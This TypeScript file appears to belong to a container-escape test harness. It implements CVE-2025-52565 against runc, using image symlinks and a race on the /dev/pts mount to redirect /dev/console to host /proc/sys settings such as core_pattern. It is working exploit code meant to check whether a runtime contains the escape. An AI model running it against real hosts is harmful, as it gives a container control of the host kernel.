import { execFileSync } from 'node:child_process'
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import type { Container } from '../../../e2e/container.ts'
import type { Spec } from '../../../e2e/spec.ts'
import { contained, escaped, reachedGuest, type Attack, type Verdict } from '../../attack.ts'
import { makeBundle, runWinning } from '../../bundle.ts'
import { KernelSetting } from '../../kernel-setting.ts'
import { install } from '../../programs.ts'
import type { Site } from '../../site.ts'

/** What the victim does with its terminal; /proc/sys itself is read-only for it. */
const script = (setting: KernelSetting): string[] => ['sh', '-c', `[ -c /dev/console ] && echo a terminal || echo ${setting.value} >/dev/console`]

/** A volume as /dev, which the attacker has too: `pts` is where devpts is mounted, and `fake` what is exchanged for it. */
function makeVolume(site: Site, setting: KernelSetting): string {
  const volume = `${site.directory}/volume`
  for (const name of ['pts', 'fake']) mkdirSync(`${volume}/${name}`, { recursive: true })
  execFileSync('mknod', ['-m', '666', `${volume}/null`, 'c', '1', '3'])
  writeFileSync(`${volume}/console`, '')
  symlinkSync('pts/ptmx', `${volume}/ptmx`)
  symlinkSync(setting.path, `${volume}/fake/0`)
  return volume
}

const withVolume = (volume: string) => (spec: Spec): void => {
  const devpts = spec.mounts.filter(({ destination }) => destination === '/dev/pts')
  spec.mounts = [...spec.mounts.filter(({ destination }) => !destination.startsWith('/dev')), { destination: '/dev', type: 'bind', source: volume, options: ['rbind', 'rw'] }, ...devpts]
}

/** The image has the links from the start: the name of the terminal that the kernel will give out, the multiplexer, or /dev/console. */
async function imageLinks(site: Site, setting: KernelSetting, member: (options: object) => object): Promise<string[]> {
  const told: string[] = []
  for (const name of ['pts/0', 'console']) {
    const { stdout, refusal } = await site.attempt(member({
      args: script(setting), terminal: true,
      rootfs: (layer: string) => {
        mkdirSync(`${layer}/dev/pts`, { recursive: true })
        if (name === 'pts/0') symlinkSync('/real/ptmx', `${layer}/dev/pts/ptmx`)
        symlinkSync(setting.path, `${layer}/dev/${name}`)
      },
      spec: (spec: Spec) => {
        for (const mount of spec.mounts) if (mount.destination === '/dev/pts' && name === 'pts/0') mount.destination = '/real'
        spec.mounts = spec.mounts.filter(({ destination }) => destination !== '/dev')
      },
    }))
    told.push(`/dev/${name} a link: ${refusal ?? stdout.trim()}`)
  }
  return told
}

async function race(site: Site, setting: KernelSetting, member: (options: object) => object): Promise<string> {
  const volume = makeVolume(site, setting)
  const swapper: Container = await site.start(member({
    rootfs: (layer: string) => { install(layer, 'exchange') }, args: ['/attack/exchange', '/v/pts', '/v/fake', '/v/stop'],
    spec: (spec: Spec) => { spec.mounts.push({ destination: '/v', type: 'bind', source: volume, options: ['rbind', 'rw'] }) },
  }))
  await swapper.output.until(/exchanging/)
  let terminals = 0
  for (let round = 0; round < 4 && !setting.changed; round++) {
    const { stdout } = await site.attempt(member({ args: script(setting), terminal: true, spec: withVolume(volume) }))
    if (stdout.includes('a terminal')) terminals++
  }
  writeFileSync(`${volume}/stop`, '')
  return `4 creations raced a swap of /dev/pts, ${terminals} got their terminal`
}

function againstRunc(site: Site): Verdict {
  const setting = new KernelSetting()
  const volume = makeVolume(site, setting)
  const bundle = makeBundle(site, script(setting), (spec) => {
    spec.process.terminal = true
    withVolume(volume)(spec)
  })
  const said = runWinning(site, bundle, { swap: 'during', call: 'mount', path: '/dev/pts/0', count: 1 }, `${volume}/pts`, `${volume}/fake`)
  return setting.changed ? escaped(`the host's ${setting.path} is ${setting.host}, by a container for which /proc/sys is read-only`) : contained(said)
}

/**
 * runc bound the name /dev/pts/N on /dev/console before it masked anything. An attacker who has a link there at that moment
 * gets a writable copy of what is read-only for the container.
 */
export const attack: Attack = {
  id: 'CVE-2025-52565',
  title: 'the name of the terminal leads to a file of /proc when it is bound on /dev/console: links of the image, and a race',
  family: 'container',
  leak: 'core_pattern or sysrq-trigger of the kernel, and so the kernel',
  bound: 'container',
  control: { weak: 'Debian\'s runc 1.1.5, held by a debugger at the moment at which the race is won', run: (site) => Promise.resolve(againstRunc(site)) },
  async run(site) {
    const setting = new KernelSetting()
    const pod = await site.pod()
    const neighbour = await pod.start()
    const told = await imageLinks(site, setting, options => pod.member(options))
    told.push(await race(site, setting, options => pod.member(options)))
    if (setting.changed) return escaped(`the host's ${setting.path} is ${setting.host} now; ${told.join('; ')}`)
    if (await setting.changedIn(neighbour)) return reachedGuest(`the guest's ${setting.path} is ${setting.value} now; ${told.join('; ')}`)
    return contained(`${told.join('; ')}; ${setting.path} is as it was`)
  },
}
